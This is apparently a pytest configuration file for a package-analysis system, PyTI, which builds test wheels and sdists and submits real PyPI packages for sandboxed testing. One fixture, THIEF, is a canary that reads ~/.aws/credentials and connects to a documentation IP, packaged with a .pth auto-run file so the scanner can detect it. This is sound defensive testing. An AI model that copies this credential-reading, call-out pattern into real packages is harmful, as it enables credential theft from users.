"""Real distributions through the whole of PyTI, once for all tests: real index, real machines, two slots."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import io
import tarfile
import time
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path

import msgspec
import pytest

from pyti import FileChoice, Report, Settings, Submission, embedded
from pyti.config import IndexSettings, SlaveSettings
from pyti.machines import Image
from pyti.messages import SlavePresence
from pyti.roles import stored_file
from pyti.roles.loop_probe import Blocked, loop_probe

ALL_LIMIT_S = 1500
"""The first test of this folder waits for every job: about 5 minutes on two emulating cores (measured)."""

HERE = Path(__file__).parent


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    for item in items:
        if HERE in item.path.parents:
            item.add_marker(pytest.mark.timeout(ALL_LIMIT_S), append=False)


@dataclass(frozen=True)
class Observed:
    """What the run of all distributions left behind."""

    reports: Mapping[str, Report]
    blocked: tuple[Blocked, ...]
    presences: tuple[SlavePresence, ...]
    seconds: float


def wheel(name: str, version: str, files: Mapping[str, str], requires: tuple[str, ...] = ()) -> bytes:
    """Make a pure wheel (PEP 427) of these files."""
    info = f"{name}-{version}.dist-info"
    lines = ["Metadata-Version: 2.1", f"Name: {name}", f"Version: {version}"]
    lines += [f"Requires-Dist: {requirement}" for requirement in requires]
    content = {
        **files,
        f"{info}/METADATA": "\n".join(lines) + "\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = ""
    for path, text in content.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record += f"{path},sha256={digest},{len(text.encode())}\n"
    content[f"{info}/RECORD"] = record + f"{info}/RECORD,,\n"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, text in content.items():
            archive.writestr(path, text)
    return out.getvalue()


def sdist(name: str, version: str, files: Mapping[str, str]) -> bytes:
    """Make a source distribution of these files; its PKG-INFO is old, so nothing of it can be trusted."""
    top = f"{name}-{version}"
    content = {**files, "PKG-INFO": f"Metadata-Version: 1.0\nName: {name}\nVersion: {version}\n"}
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for path, text in content.items():
            member = tarfile.TarInfo(f"{top}/{path}")
            member.size = len(text.encode())
            member.mtime = int(time.time())
            archive.addfile(member, io.BytesIO(text.encode()))
    return out.getvalue()


THIEF = """
import os, socket
try:
    open(os.path.expanduser("~/.aws/credentials")).read()
    socket.create_connection(("192.0.2.1", 443), timeout=1)
except OSError:
    pass
"""
"""A harmless canary: it reads the guest's made-up credentials and calls an address that leads nowhere (RFC 5737)."""

DYNAMIC_SETUP = """
from setuptools import setup
wanted = ["idn" + "a"]
setup(name="dynamic-canary", version="1.0", py_modules=["dynamic_canary"], install_requires=wanted)
"""

TESTED = """
import unittest, clean_canary
class Behaviour(unittest.TestCase):
    def test_answer(self):
        self.assertEqual(clean_canary.answer(), 42)
"""


def local_files(folder: Path) -> dict[str, Path]:
    """Write the distributions that are made here; by the name of their case."""
    made = {
        "clean": ("clean_canary-1.0-py3-none-any.whl", wheel("clean_canary", "1.0", {"clean_canary.py": "x = 1\n"})),
        "thief": (
            "thief_canary-1.0-py3-none-any.whl",
            wheel(
                "thief_canary", "1.0", {"thief_canary.py": THIEF, "thief_canary.pth": "import sys; sys.canary = 1\n"}
            ),
        ),
        "dynamic": (
            "dynamic_canary-1.0.tar.gz",
            sdist("dynamic_canary", "1.0", {"setup.py": DYNAMIC_SETUP, "dynamic_canary.py": "import idna\n"}),
        ),
    }
    paths = {}
    for case, (filename, data) in made.items():
        paths[case] = folder / filename
        paths[case].write_bytes(data)
    return paths


INDEX_CASES: dict[str, Submission] = {
    "docopt": Submission(requirement="docopt==0.6.2", choice=FileChoice.SDIST, profile="default"),
    "iniconfig": Submission(requirement="iniconfig==2.3.1", choice=FileChoice.SDIST, profile="default"),
    "simplejson": Submission(requirement="simplejson==3.20.1", choice=FileChoice.SDIST, profile="quick"),
    "markupsafe": Submission(requirement="markupsafe==3.0.4", choice=FileChoice.SDIST, profile="quick"),
    "sklearn": Submission(requirement="sklearn==0.0.post12", choice=FileChoice.SDIST, profile="quick"),
    "psycopg2": Submission(requirement="psycopg2==2.9.9", choice=FileChoice.SDIST, profile="quick"),
    "numpy": Submission(requirement="numpy==2.2.6", choice=FileChoice.WHEEL, profile="quick"),
    "requests": Submission(requirement="requests==2.32.3", profile="quick"),
    "six": Submission(requirement="six==1.17.0", profile="full"),
}
"""The distributions of the real index, the longest first, so that both slots end at about the same time."""


async def run_everything(settings: Settings, files: Mapping[str, Path]) -> Observed:
    blocked: list[Blocked] = []
    presences: list[SlavePresence] = []
    started = time.monotonic()
    async with embedded(settings) as master:
        cases = list(INDEX_CASES)
        submissions = list(INDEX_CASES.values())
        for case, path in files.items():
            cases.append(case)
            submissions.append(Submission(file=await stored_file(path, master.blobs), profile="quick"))
        async with loop_probe(blocked.append):
            jobs = await master.submit(submissions)
            waiting = asyncio.gather(*(master.report(job.job) for job in jobs))
            while not waiting.done():
                await asyncio.wait({waiting}, timeout=5)
                presences.extend(await master.slaves())
            reports = await waiting
    return Observed(
        dict(zip(cases, reports, strict=True)), tuple(blocked), tuple(presences), time.monotonic() - started
    )


@pytest.fixture(scope="session")
def system_settings(machine_settings: Settings, image: Image, tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """Images and templates that are there already; everything else fresh, the cache of the index included."""
    home = machine_settings.home
    folder = tmp_path_factory.mktemp("system")
    return msgspec.structs.replace(
        machine_settings,
        home=home,
        slave=SlaveSettings(slots=2, heartbeat_s=1.0),
        index=IndexSettings(),
        store=msgspec.structs.replace(
            machine_settings.store, url=f"sqlite+aiosqlite:///{folder}/pyti.sqlite", blobs=str(folder / "blobs")
        ),
    )


@pytest.fixture(scope="session")
def observed(system_settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Observed:
    """All distributions, tested in one run."""
    return asyncio.run(run_everything(system_settings, local_files(tmp_path_factory.mktemp("files"))))


@pytest.fixture(scope="session")
def report_of(observed: Observed) -> Callable[[str], Report]:
    """The report of one case."""
    return observed.reports.__getitem__


@pytest.fixture
def make_wheel() -> Iterator[Callable[..., bytes]]:
    """The maker of wheels, for tests that need one more."""
    return wheel  # type: ignore[return-value]
